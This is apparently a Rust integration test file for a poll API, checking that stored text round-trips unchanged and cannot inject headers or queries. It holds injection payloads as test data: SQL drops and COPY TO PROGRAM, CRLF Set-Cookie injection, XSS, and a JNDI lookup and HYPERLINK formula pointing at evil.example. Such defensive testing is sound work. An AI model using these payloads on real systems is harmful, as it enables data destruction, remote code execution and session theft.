//! What is sent as text comes back as that text, whatever it would mean to somebody else.

use hyper::Method;
use pollster_integration::{PollView, Stack, lunch, token};
use serde_json::{Value, json};

use super::{assert_alive, exchange, statuses};
use crate::errors::{JSON, assert_problem, post};

const HOSTILE: [&str; 14] = [
    "'; DROP TABLE polls; --",
    "' OR '1'='1",
    "\"; SELECT pg_sleep(30); --",
    "$1 $2 :name %s %n {} {{7*7}} ${7*7} #{7*7}",
    "\\'; COPY responses TO PROGRAM 'id' --",
    "a\r\nSet-Cookie: session=stolen\r\n\r\n<html>",
    "a\nLocation: https://evil.example",
    "*3\r\n$3\r\nDEL\r\n$1\r\n*\r\n.",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "=HYPERLINK(\"https://evil.example\")",
    "${jndi:ldap://evil.example/a}",
    "\u{202e}\u{feff}\u{200d}gnp.exe",
    "\u{1}\u{1b}[2J\u{7f}",
];

#[tokio::test]
async fn hostile_texts_of_a_poll_come_back_as_they_are() {
    let stack = Stack::start().await;
    for text in HOSTILE {
        let definition = json!({
            "title": text, "description": text,
            "questions": [{"text": text, "choices": [text, format!("{text} 2")]}],
        });
        let poll = stack.create_poll(&definition).await;
        let read = stack.get(&format!("/api/v1/polls/{}", poll.poll_id)).await;
        assert!(
            !read.headers.contains_key("set-cookie") && !read.headers.contains_key("location"),
            "{text:?}"
        );
        let read: Value = read.json().unwrap();
        let question = &read["questions"][0];
        for (field, value) in [
            ("title", &read["title"]),
            ("description", &read["description"]),
            ("question", &question["text"]),
            ("choice", &question["choices"][0]["text"]),
        ] {
            assert_eq!(value, text, "{field}");
        }
        stack.accepted(&poll, &token(), Some(&key(text)), poll.ballot(0, 0)).await;
        assert_eq!(stack.assert_exact(&poll).await.total, 1, "{text:?}");
    }
}

/// The text as an idempotency key, which is a header.
fn key(text: &str) -> String {
    text.chars().filter(|letter| (' '..='~').contains(letter)).take(64).collect()
}

#[tokio::test]
async fn hostile_names_name_nothing() {
    let stack = Stack::start().await;
    let poll = stack.create_poll(&lunch()).await;
    for name in
        ["'%20OR%20'1'='1", "%27%3BDROP%20TABLE%20polls", "%0d%0aSet-Cookie:%20a=b", "*", "%00", "{poll}"]
    {
        let reply = stack.get(&format!("/api/v1/polls/{name}")).await;
        assert_problem(name, &reply, 404, "poll_not_found");
        assert!(!reply.headers.contains_key("set-cookie"), "{name}");
    }
    for name in ["question_id", "x\r\nSet-Cookie: a=b", "__proto__"] {
        let body = json!({name: {"$ne": null}}).to_string();
        let headers = [JSON, ("x-voter-token", &token())];
        let reply = stack.request(Method::POST, poll.votes_path().path(), &headers, &body).await;
        assert_problem(name, &reply, 400, "malformed_request");
        assert_problem(name, &post(&stack, "/api/v1/polls", &body).await, 400, "malformed_request");
    }
    assert_eq!(stack.assert_exact(&poll).await.total, 0);
}

#[tokio::test]
async fn a_request_id_that_is_sent_makes_no_header() {
    let stack = Stack::start().await;
    let gateway = stack.gateway(0).address();
    for (id, expected) in
        [(&b"a\rSet-Cookie: b=c"[..], "400"), (b"a\0b", "400"), (b"<script>\"}", "404"), (b"\xff\xfe", "404")]
    {
        let request = [
            b"GET /api/v1/polls/none HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Request-Id: ",
            id,
            b"\r\n\r\n",
        ]
        .concat();
        let answer = exchange(gateway, &request).await;
        assert_eq!(statuses(&answer), [expected], "{id:?}: {answer}");
        assert!(!answer.to_ascii_lowercase().contains("\nset-cookie"), "{id:?}: {answer}");
        assert_alive("a request id", &stack).await;
    }
    let poll: PollView = stack.create_poll(&lunch()).await;
    assert_eq!(stack.results(&poll).await.total_votes, 0);
}
